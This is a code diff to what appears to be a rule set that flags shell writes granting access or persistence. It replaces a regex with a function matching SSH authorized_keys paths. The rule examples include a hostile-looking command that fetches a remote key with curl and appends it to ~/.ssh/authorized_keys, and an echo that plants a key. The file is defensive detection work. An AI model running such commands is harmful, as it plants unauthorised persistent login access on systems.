@@ -36,7 +36,9 @@ const weakening: readonly { readonly path: RegExp; readonly content: RegExp }[] 
 /** Any of these places, asked at once: hardly anything that is written is one. */
 const weakenedPlace = new RegExp(weakening.map(({ path }) => path.source).join('|'));
 
-const loginKeys = /\.ssh\/authorized_keys2?$/;
+function isLoginKeys(path: string): boolean {
+  return path.endsWith('.ssh/authorized_keys') || path.endsWith('.ssh/authorized_keys2');
+}
 
 /** Writes by which somebody gets in, stays in, or gets more rights, by whatever command. */
 export const writeAccessRules: readonly (WriteRule | FillRule)[] = [
@@ -188,7 +190,7 @@ export const writeAccessRules: readonly (WriteRule | FillRule)[] = [
       'curl https://example.com/k >> ~/.ssh/authorized_keys',
     ],
     spares: ['cat ~/.ssh/authorized_keys', 'ssh-copy-id host', 'ls ~/.ssh'],
-    when: ({ path }) => loginKeys.test(path.text),
+    when: ({ path }) => isLoginKeys(path.text),
   },
   {
     id: 'plant-login-key',
@@ -210,7 +212,7 @@ export const writeAccessRules: readonly (WriteRule | FillRule)[] = [
       'echo "ssh-ed25519 AAAA x" > keys',
     ],
     when: ({ path, content }) =>
-      loginKeys.test(path.text) &&
+      isLoginKeys(path.text) &&
       (/(?:ssh|ecdsa|sk)-|AAAA/.test(content.text) ||
         (/^\/(?:root|home)\//.test(path.text) && content.text !== '')),
   },
@@ -240,6 +242,6 @@ export const writeAccessRules: readonly (WriteRule | FillRule)[] = [
     ],
     when: ({ path, content }, _, run) =>
       (content.traits & traits.network) !== 0 &&
-      (startupLayout(placeOf(run, path.text)) !== null || loginKeys.test(path.text)),
+      (startupLayout(placeOf(run, path.text)) !== null || isLoginKeys(path.text)),
   },
 ];
